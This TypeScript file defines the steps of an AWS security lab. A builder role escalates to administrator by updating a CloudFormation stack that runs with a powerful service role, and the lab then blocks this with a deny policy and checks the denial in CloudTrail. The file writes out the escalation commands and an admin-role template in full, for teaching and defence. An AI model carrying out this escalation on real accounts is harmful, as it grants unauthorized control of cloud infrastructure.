/**
 * Going further: update-stack-with-existing-role, the way out the workshop's own model leaves open (the escalation
 * battery finds it: src/lib/battery). An administrator's stack was created with a powerful service role; the
 * builder's `cloudformation:*` lets it update that stack, and CloudFormation reuses the stack's role for the update
 * with no iam:PassRole check. The fix denies the builder every change to stacks it does not own (builder-… names).
 * These steps come after the workshop's clean-up, so they deploy builder-iam again and clean up after themselves.
 */
import type { LabInput } from '../schema';

type StepInput = LabInput['steps'][number];

const lesson = 'update-stack-with-existing-role';
const stack = 'platform-logs';
const serviceRole = 'platform-deployer';
const madeRole = 'stack-made-admin';

const trustCloudFormation = `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"cloudformation.amazonaws.com"},"Action":"sts:AssumeRole"}]}`;
const logsTemplate = `{"Resources":{"Logs":{"Type":"AWS::Logs::LogGroup","Properties":{"LogGroupName":"/platform/logs"}}}}`;
const escalatedTemplate = (role: string) =>
  `{"Resources":{"Logs":{"Type":"AWS::Logs::LogGroup","Properties":{"LogGroupName":"/platform/logs"}},"Admin":{"Type":"AWS::IAM::Role","Properties":{"RoleName":"${role}","AssumeRolePolicyDocument":{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":{"Fn::Sub":"arn:aws:iam::\${AWS::AccountId}:root"}},"Action":"sts:AssumeRole"}]},"ManagedPolicyArns":["arn:aws:iam::aws:policy/AdministratorAccess"]}}}}`;
/** The statement the battery proposes (fixes.ts, stack-prefix), as an inline policy the lesson can add and remove. */
const stackGuard = `{"Version":"2012-10-17","Statement":[{"Sid":"DenyChangingStacksBuildersDoNotOwn","Effect":"Deny","Action":["cloudformation:UpdateStack","cloudformation:CreateChangeSet","cloudformation:ExecuteChangeSet","cloudformation:DeleteStack","cloudformation:CancelUpdateStack","cloudformation:ContinueUpdateRollback","cloudformation:SetStackPolicy"],"NotResource":"arn:aws:cloudformation:*:*:stack/builder-*/*"}]}`;

const assumeBuilder = [
  'role_arn=$(aws iam get-role --role-name builder | jq -r \'.Role.Arn\'); \\',
  'aws_credentials=$(aws sts assume-role --role-arn $role_arn --role-session-name builder-test); \\',
  "export AWS_ACCESS_KEY_ID=$(echo $aws_credentials|jq -r '.Credentials.AccessKeyId'); \\",
  "export AWS_SECRET_ACCESS_KEY=$(echo $aws_credentials|jq -r '.Credentials.SecretAccessKey'); \\",
  "export AWS_SESSION_TOKEN=$(echo $aws_credentials|jq -r '.Credentials.SessionToken')",
].join('\n');
const backToAdministrator = 'unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN';

export const updateStackWithExistingRoleSteps: StepInput[] = [
  {
    id: 'platform-stack-with-service-role',
    lesson,
    title: 'As the administrator: builder-iam again, and a platform stack with a powerful service role',
    identity: 'administrator',
    commands: [
      { run: backToAdministrator },
      { run: 'aws cloudformation create-stack \\\n--stack-name builder-iam \\\n--template-body file://labs/builder-iam.json \\\n--capabilities CAPABILITY_NAMED_IAM', shows: 'StackId' },
      { run: 'aws cloudformation wait stack-create-complete --stack-name builder-iam' },
      { run: `aws iam create-role \\\n--role-name ${serviceRole} \\\n--assume-role-policy-document '${trustCloudFormation}'`, shows: `"RoleName": "${serviceRole}"` },
      { run: `aws iam attach-role-policy \\\n--role-name ${serviceRole} \\\n--policy-arn arn:aws:iam::aws:policy/AdministratorAccess` },
      { run: `echo '${logsTemplate}' > platform-logs.json` },
      {
        run: `aws cloudformation create-stack \\\n--stack-name ${stack} \\\n--template-body file://platform-logs.json \\\n--role-arn $(aws iam get-role --role-name ${serviceRole} | jq -r '.Role.Arn')`,
        shows: 'StackId',
      },
      { run: `aws cloudformation wait stack-create-complete --stack-name ${stack}` },
    ],
    checks: [
      { kind: 'stackStatus', stack: 'builder-iam', status: 'CREATE_COMPLETE', hint: 'Create the builder-iam stack again as the administrator: the workshop’s clean-up deleted it.' },
      { kind: 'stackStatus', stack, status: 'CREATE_COMPLETE', hint: `Create the ${serviceRole} role with AdministratorAccess, then the ${stack} stack with --role-arn set to it, and wait for CREATE_COMPLETE.` },
    ],
  },
  {
    id: 'update-platform-stack-as-builder',
    lesson,
    title: 'As the builder: update the platform stack, which makes an administrator role',
    identity: 'builder',
    commands: [
      { run: assumeBuilder },
      { run: 'aws sts get-caller-identity', shows: ':assumed-role/builder/builder-test' },
      { run: `echo '${escalatedTemplate(madeRole)}' > platform-logs-admin.json` },
      {
        run: `aws cloudformation update-stack \\\n--stack-name ${stack} \\\n--template-body file://platform-logs-admin.json \\\n--capabilities CAPABILITY_NAMED_IAM`,
        shows: 'StackId',
      },
      { run: `aws cloudformation wait stack-update-complete --stack-name ${stack}` },
    ],
    checks: [
      { kind: 'callerIsAssumedRole', role: 'builder', hint: 'Run the update as the builder: assume the builder role with the first block.' },
      { kind: 'stackStatus', stack, status: 'UPDATE_COMPLETE', hint: `Update ${stack} with platform-logs-admin.json as the builder, without --role-arn, and wait for UPDATE_COMPLETE: the stack then holds ${madeRole}.` },
      {
        kind: 'cloudTrailAllowed',
        eventSource: 'cloudformation.amazonaws.com',
        eventName: 'UpdateStack',
        role: 'builder',
        requestParameters: { stackName: stack },
        hint: 'CloudTrail should show the builder’s UpdateStack call: run it as the builder.',
      },
    ],
  },
  {
    id: 'guard-other-stacks',
    lesson,
    title: 'As the administrator: deny the builder every change to stacks it does not own',
    identity: 'administrator',
    commands: [
      { run: backToAdministrator },
      { run: `echo '${stackGuard}' > stack-guard.json` },
      { run: 'aws iam put-role-policy \\\n--role-name builder \\\n--policy-name stack-guard \\\n--policy-document file://stack-guard.json' },
    ],
    checks: [
      { kind: 'callerIsNotAssumedRole', role: 'builder', hint: 'Return to the administrator (unset the builder’s variables) before you change the builder role.' },
    ],
  },
  {
    id: 'update-platform-stack-denied',
    lesson,
    title: 'As the builder: the same update is now denied',
    identity: 'builder',
    commands: [
      { run: assumeBuilder },
      { run: `echo '${escalatedTemplate(`${madeRole}-2`)}' > platform-logs-admin-2.json` },
      {
        run: `aws cloudformation update-stack \\\n--stack-name ${stack} \\\n--template-body file://platform-logs-admin-2.json \\\n--capabilities CAPABILITY_NAMED_IAM`,
        expect: 'failure',
        shows: 'An error occurred (AccessDenied) when calling the UpdateStack operation',
      },
    ],
    checks: [
      {
        kind: 'cloudTrailDenied',
        eventSource: 'cloudformation.amazonaws.com',
        eventName: 'UpdateStack',
        role: 'builder',
        errorCode: 'AccessDenied',
        requestParameters: { stackName: stack },
        hint: 'Run the update as the builder after the administrator added stack-guard: it should answer AccessDenied.',
      },
      { kind: 'roleAbsent', roleName: `${madeRole}-2`, hint: `${madeRole}-2 must not exist: if it does, the update ran without the guard.` },
    ],
  },
  {
    id: 'clean-up-platform-stack',
    lesson,
    title: 'As the administrator: clean up',
    identity: 'administrator',
    commands: [
      { run: backToAdministrator },
      { run: `aws cloudformation delete-stack --stack-name ${stack}` },
      { run: `aws cloudformation wait stack-delete-complete --stack-name ${stack}` },
      { run: `aws iam detach-role-policy --role-name ${serviceRole} --policy-arn arn:aws:iam::aws:policy/AdministratorAccess` },
      { run: `aws iam delete-role --role-name ${serviceRole}` },
      { run: 'aws iam delete-role-policy --role-name builder --policy-name stack-guard' },
      { run: 'aws cloudformation delete-stack --stack-name builder-iam' },
      { run: 'aws cloudformation wait stack-delete-complete --stack-name builder-iam' },
    ],
    checks: [
      { kind: 'stackAbsent', stack, deleted: true, hint: `Delete the ${stack} stack as the administrator (its service role must still exist while it deletes).` },
      { kind: 'roleAbsent', roleName: madeRole, hint: `${madeRole} goes with the ${stack} stack.` },
      { kind: 'roleAbsent', roleName: serviceRole, hint: `Detach AdministratorAccess from ${serviceRole}, then delete it, after the stack is gone.` },
      { kind: 'stackAbsent', stack: 'builder-iam', deleted: true, hint: 'Delete stack-guard from the builder role, then the builder-iam stack.' },
    ],
  },
];
